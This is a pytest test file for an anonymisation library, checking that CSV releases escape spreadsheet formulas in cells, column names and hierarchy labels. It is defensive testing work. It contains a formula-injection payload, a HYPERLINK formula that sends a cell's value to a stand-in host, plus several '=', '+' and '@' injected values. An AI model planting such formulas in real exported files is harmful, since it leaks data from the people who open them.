"""Nothing that a spreadsheet opens runs: column names, labels, values that pass through, and every CSV beside them."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

import maskwright as mw
from maskwright.domain.spreadsheets import escape_cell, would_run
from maskwright.errors import InputError
from maskwright.verification.verify import verify_folder
from tests.amounts import crossed
from tests.patients import HEADER, POLICY, leftovers, patients, write_csv

EVIL = '=HYPERLINK("http://x/?"&A1)'


def policy(**changes: Any) -> dict[str, Any]:
    return dict(yaml.safe_load(POLICY) | {"require": [{"model": "k-anonymity", "k": 4}]} | changes)


def table(path: Path, column: str, value: str = EVIL) -> Path:
    """Every second person has the value in that column."""
    rows = patients()
    at = HEADER.index(column)
    for i, row in enumerate(rows):
        row[at] = value if i % 4 < 2 else row[at]
    return write_csv(path / "patients.csv", rows)


def dangerous(folder: Path) -> list[str]:
    """Cells of any CSV file in a folder that a spreadsheet would run; copies of hierarchy files are what they were."""
    found = []
    for path in sorted(p for p in folder.rglob("*.csv") if p.parent.name != "hierarchies"):
        with path.open(newline="", encoding="utf-8") as file:
            found += [f"{path.name}: {cell}" for row in csv.reader(file) for cell in row if would_run(cell)]
    return found


@pytest.mark.parametrize(
    ("column", "recoding"), crossed(["disease", "ward", "sex", "zip"], ["generalise", "bucketize", "permute"])
)
def test_values_are_refused_escaped_or_allowed(tmp_path: Path, column: str, recoding: str) -> None:
    source, out = table(tmp_path, column), tmp_path / "release"
    exact = policy(recoding=recoding, method={"name": "mondrian"})
    exact["columns"] |= {"zip": {"role": "quasi-identifier", "hierarchy": "suppress"}}
    if recoding == "generalise" and column in ("sex", "zip"):  # published as it is
        exact["columns"] |= {column: {"role": "insensitive", "near_unique": "allow"}}
    with pytest.raises(InputError, match=f"column '{column}'.*formulas: escape"):
        mw.anonymize(source, exact, out)
    assert not out.exists()
    assert not leftovers(tmp_path)
    mw.anonymize(source, exact | {"output": {"formulas": "escape"}}, out)
    assert not dangerous(out)
    assert verify_folder(out).ok
    assert verify_folder(out, recount_only=True).ok
    written = "".join(p.read_text(encoding="utf-8") for p in (out / "public").glob("*.csv"))
    assert escape_cell(EVIL) in written.replace('""', '"')
    assert all(t["escaped"] for t in json.loads((out / "public" / "manifest.json").read_text())["tables"])
    assert "apostrophe" in (out / "public" / "data-card.html").read_text(encoding="utf-8")
    mw.anonymize(source, exact | {"output": {"formulas": "allow"}}, out, overwrite=True)
    assert dangerous(out / "public")
    assert verify_folder(out).ok
    mw.anonymize(source, exact | {"output": {"format": "parquet"}}, out, overwrite=True)
    assert verify_folder(out).ok


def test_an_escaped_release_that_was_edited_is_rejected(tmp_path: Path) -> None:
    source, out = table(tmp_path, "disease"), tmp_path / "release"
    mw.anonymize(source, policy(output={"formulas": "escape"}), out)
    data = out / "public" / "data.csv"
    data.write_text(data.read_text(encoding="utf-8").replace("'=HYPER", "'=hyper", 1), encoding="utf-8")
    with pytest.raises(mw.errors.NotVerified, match="did not have"):
        verify_folder(out)


def test_labels_of_a_hierarchy(tmp_path: Path) -> None:
    source, out = write_csv(tmp_path / "patients.csv", patients()), tmp_path / "release"
    (tmp_path / "ward.csv").write_text("A;=1+1;*\nB;=1+1;*\nC;@c;*\n", encoding="utf-8")
    file = tmp_path / "policy.yaml"
    labelled = policy()
    labelled["columns"]["ward"] = {
        "role": "quasi-identifier",
        "hierarchy": {"file": "ward.csv"},
        "levels": [1],
    }
    file.write_text(yaml.safe_dump(labelled), encoding="utf-8")
    with pytest.raises(InputError, match="column 'ward'"):
        mw.anonymize(source, file, out)
    file.write_text(yaml.safe_dump(labelled | {"output": {"formulas": "escape"}}), encoding="utf-8")
    mw.anonymize(source, file, out)
    assert not dangerous(out), "mapping.csv too"
    assert (out / "private" / "mapping.csv").exists()
    assert verify_folder(out).ok


def test_column_names(tmp_path: Path) -> None:
    header = [*HEADER[:4], "=disease", "+ward"]
    source, out = write_csv(tmp_path / "patients.csv", patients(), header), tmp_path / "release"
    named = policy()
    named["columns"] |= {"=disease": named["columns"].pop("disease"), "+ward": named["columns"].pop("ward")}
    with pytest.raises(InputError, match=r"name of column '=disease'.*rename"):
        mw.anonymize(source, named, out)
    mw.anonymize(source, named | {"output": {"formulas": "escape"}}, out)
    assert (out / "public" / "data.csv").read_text(encoding="utf-8").splitlines()[
        0
    ] == "age,zip,sex,'=disease,'+ward"
    assert verify_folder(out).ok
    assert not dangerous(out)


def test_several_tables_and_their_plans(tmp_path: Path) -> None:
    source, out = table(tmp_path, "ward"), tmp_path / "release"
    asked = policy(method={"name": "codip", "plan": "best"}, output={"formulas": "escape"})
    asked["columns"] |= {"ward": "sensitive"}
    mw.anonymize(source, asked, out)
    assert (out / "private" / "plans.csv").exists()
    assert not dangerous(out)
    assert verify_folder(out).ok


def test_names_in_plans(tmp_path: Path) -> None:
    source, out = (
        write_csv(tmp_path / "p.csv", patients(), [*HEADER[:4], "=disease", "@ward"]),
        tmp_path / "release",
    )
    asked = policy(method={"name": "codip", "plan": "best"}, output={"formulas": "escape"})
    asked["columns"] = {k: v for k, v in asked["columns"].items() if k not in ("disease", "ward")}
    asked["columns"] |= {"=disease": "sensitive", "@ward": "sensitive"}
    mw.anonymize(source, asked, out)
    assert "=disease" in (out / "private" / "plans.csv").read_text(encoding="utf-8")
    assert not dangerous(out)


def test_a_comparison(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "patients.csv", patients())
    path = tmp_path / "=1+1.yaml"
    path.write_text(yaml.safe_dump(policy()), encoding="utf-8")
    mw.compare(source, [path]).save(tmp_path / "comparison")
    assert (tmp_path / "comparison" / "comparison.csv").exists()
    assert not dangerous(tmp_path / "comparison")


def test_negative_numbers_are_no_formulas(tmp_path: Path) -> None:
    rows = patients()
    for i, row in enumerate(rows):
        row[1], row[4] = str(i - 20), ["-3", "-3.5e2", "+1", "-"][i // 2 % 4]
    source, out = write_csv(tmp_path / "patients.csv", rows), tmp_path / "release"
    asked = policy()
    asked["columns"]["age"]["levels"] = [2]
    mw.anonymize(source, asked, out)
    assert "-10..-1" in (out / "public" / "data.csv").read_text(encoding="utf-8"), (
        "our own labels are no formulas"
    )
    assert verify_folder(out).ok
